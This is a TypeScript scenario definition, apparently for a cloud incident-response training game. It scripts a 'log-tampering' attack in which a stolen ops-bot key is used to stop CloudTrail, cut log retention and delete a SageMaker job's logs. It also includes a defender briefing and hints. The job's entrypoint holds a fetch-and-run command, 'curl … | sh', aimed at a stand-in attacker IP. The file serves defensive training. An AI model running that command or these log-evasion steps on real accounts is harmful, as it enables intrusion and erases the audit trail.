import { agents } from '../actors/agents.ts';
import { stepsBy } from '../actors/attack.ts';
import { asks, routine } from '../actors/benign.ts';
import { darkness } from '../actors/darkness.ts';
import { allow, looks, policy, roleArn, trusts } from '../cast.ts';
import { accountId, executionRole, trail } from '../estate-definition.ts';
import type { Scenario } from './scenario.ts';

const attackerIp = '198.51.100.54';
const officeIp = '203.0.113.66';
const minute = 60_000;
const job = 'nightly-report-00121';
/** The role's session first; the key it came from when that is refused. */
const by = ['session', 'stolen-key'] as const;

const step = stepsBy(by);

const assume = step(
  'escalation',
  15_000,
  'sts:AssumeRole',
  { RoleArn: roleArn('logs-maintenance'), RoleSessionName: 'rotate' },
  { by: ['stolen-key'], opens: 'session' },
);

/** The trail is stopped and what a job left behind is taken away. ATT&CK T1562.008, T1070, T1078.004. */
export default {
  id: 'log-tampering',
  title: 'Log tampering',
  summary: 'The security lake has received nothing for minutes, while somebody works in the account.',
  briefing: [
    `PagerDuty · SEV-2 · Security lake: ${trail.name} of ${accountId} (ml-prod) has delivered nothing for five minutes.`,
    'The operations team rotates logs at night, never at this time. Their key belongs to ops-bot.',
    'The event history of CloudTrail cannot be switched off: what it shows is all you have of the calls meanwhile.',
    'You are OnCall with administrator rights. Get the logs back for good, save what is left, and leave a timeline.',
  ],
  hints: [
    'Look at the coverage (:coverage): which source went silent, and when? Then for StopLogging in the event history.',
    'The trail is stopped by a session of logs-maintenance. Who assumed the role, and from where?',
    'Switched on, the trail is switched off again by whoever still may. Deactivating the key of ops-bot leaves the session that it issued.',
    'Deny ops-bot everything, revoke the sessions of logs-maintenance (no compute holds any), start logging, and keep the log group whose retention was cut to a day.',
  ],
  playbook: 'log-tampering',
  cast: {
    users: [
      {
        name: 'ops-bot',
        path: '/ops/',
        inline: {
          rotate: policy(
            looks,
            allow(['cloudtrail:DescribeTrails', 'cloudtrail:GetTrailStatus', 'logs:DescribeLogGroups']),
            allow('sts:AssumeRole', roleArn('logs-maintenance')),
          ),
        },
        tags: { team: 'operations' },
      },
    ],
    roles: [
      {
        name: 'logs-maintenance',
        description: 'Rotation of logs at night',
        trust: trusts('account'),
        maxSessionSeconds: 43_200,
        inline: {
          logs: policy(
            looks,
            allow(['cloudtrail:*', 'logs:*']),
            allow(['sagemaker:CreateProcessingJob', 'sagemaker:StopProcessingJob', 'sagemaker:DeleteProcessingJob']),
            allow('iam:PassRole', executionRole),
          ),
        },
      },
    ],
  },
  attack: {
    sourceIp: attackerIp,
    disguises: {
      'stolen-key': { stolenFrom: 'ops-bot', userAgent: agents.kaliCli },
      session: { userAgent: agents.kaliCli },
    },
    reentry: [assume],
    steps: [
      step('recon', 2_000, 'sts:GetCallerIdentity', {}, { by: ['stolen-key'] }),
      step('recon', 5_000, 'cloudtrail:DescribeTrails', {}, { by: ['stolen-key'] }),
      { ...assume, essential: true },
      step('recon', 8_000, 'cloudtrail:GetTrailStatus', { Name: trail.name }),
      { ...step('defence evasion', 25_000, 'cloudtrail:StopLogging', { Name: trail.name }), essential: true },
      step('recon', 20_000, 'logs:DescribeLogGroups', { limit: 50 }),
      step('defence evasion', 15_000, 'logs:PutRetentionPolicy', {
        logGroupName: trail.logGroup,
        retentionInDays: 1,
      }),
      step('impact', 30_000, 'sagemaker:CreateProcessingJob', {
        ProcessingJobName: job,
        RoleArn: executionRole,
        AppSpecification: {
          ImageUri: '763104351884.dkr.ecr.us-east-1.amazonaws.com/sagemaker-scikit-learn:1.4-2-cpu-py310',
          ContainerEntrypoint: ['bash', '-c', `curl -s http://${attackerIp}:8080/x | sh`],
        },
        ProcessingResources: {
          ClusterConfig: { InstanceType: 'ml.m5.large', InstanceCount: 1, VolumeSizeInGB: 5 },
        },
      }),
      // What it did is done; its metadata and its log lines go.
      step('impact', 200_000, 'sagemaker:StopProcessingJob', { ProcessingJobName: job }),
      step('defence evasion', 70_000, 'sagemaker:DeleteProcessingJob', { ProcessingJobName: job }),
      step('defence evasion', 12_000, 'logs:DescribeLogStreams', {
        logGroupName: '/aws/sagemaker/ProcessingJobs',
        logStreamNamePrefix: job,
      }),
      step('defence evasion', 10_000, 'logs:DeleteLogGroup', { logGroupName: '/aws/sagemaker/ProcessingJobs' }),
    ],
    goal: () =>
      darkness({
        trail: trail.name,
        by,
        darkMs: 14 * minute,
        endings: {
          reached:
            'For fourteen minutes nothing that was done with data in this account was recorded, and nobody can say what it was.',
          stopped: 'The trail logs, and nobody who stopped it can stop it again.',
        },
      }),
    deadlineMs: 30 * minute,
  },
  routines: [
    routine('alice'),
    routine('bob'),
    routine('ci'),
    routine('ci-batch'),
    {
      who: 'ops-bot',
      sourceIp: officeIp,
      userAgent: agents.terraform,
      everyMs: 160_000,
      rhythm: 'beat',
      calls: [asks('cloudtrail:DescribeTrails'), asks('logs:DescribeLogGroups', { limit: 50 })],
    },
  ],
  historyCalls: 60,
} satisfies Scenario;
